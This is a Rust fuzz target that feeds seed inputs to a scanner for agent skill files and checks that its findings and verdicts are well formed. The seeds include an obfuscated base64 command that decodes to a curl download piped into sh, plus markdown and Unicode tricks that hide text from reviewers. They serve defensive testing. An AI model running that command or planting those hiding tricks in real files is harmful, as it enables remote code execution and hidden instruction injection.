//! The scanner: texts and scripts of skills.

use std::sync::LazyLock;

use tarsus_protocol::scan::ScanVerdict;
use tarsus_scan::{Ruleset, Scanner, SkillContext, apply_context};

pub(crate) const SEEDS: &[&[u8]] = &[
    include_bytes!("../seeds/skill.md"),
    include_bytes!("../seeds/scan.md"),
    b"\xff\xfec\0u\0r\0l\0",
    b"<!-- x\n```\n| a |\n> b\n---\n",
    b"a <!-- b --> c <span style=\"display:none\">d</span> ![e](f \"g\")\n[//]: # (h)\n",
    b"echo 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo' | base64 -d | rev | sh\n",
    "x\u{E0068}\u{E0069}\u{FE00}\u{FE01}\u{202E}\u{200B}\u{430}".as_bytes(),
];

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| Scanner::new(Ruleset::bundled()));

/// Every finding has a place in the text and a short printable excerpt, in texts and in programs; a blocking finding
/// is not cleared by accepting another one.
pub fn scan(data: &[u8]) {
    let name = if data.len().is_multiple_of(2) { "SKILL.md" } else { "scripts/run.sh" };
    let mut report = SCANNER.scan_text(name, data);
    let lines = u32::try_from(data.iter().filter(|byte| **byte == b'\n').count() + 1).unwrap_or(u32::MAX);
    for finding in &report.findings {
        let (start, end) = ((finding.line, finding.column), (finding.end_line, finding.end_column));
        assert!(start >= (1, 1) && start <= end && finding.end_line <= lines, "{finding:?}");
        assert!(finding.excerpt.chars().count() <= 160, "{finding:?}");
        assert!(!finding.excerpt.chars().any(char::is_control), "{finding:?}");
    }
    let verdict = report.verdict;
    apply_context(&mut report, &SkillContext { accepted: &["no-such.rule"], ..SkillContext::default() });
    assert_eq!(report.verdict, verdict);
    let all: Vec<String> = report.findings.iter().map(|finding| finding.rule.clone()).collect();
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    apply_context(&mut report, &SkillContext { accepted: &all, ..SkillContext::default() });
    assert!(report.verdict == ScanVerdict::Clean || report.findings.iter().any(|finding| !finding.accepted));
}
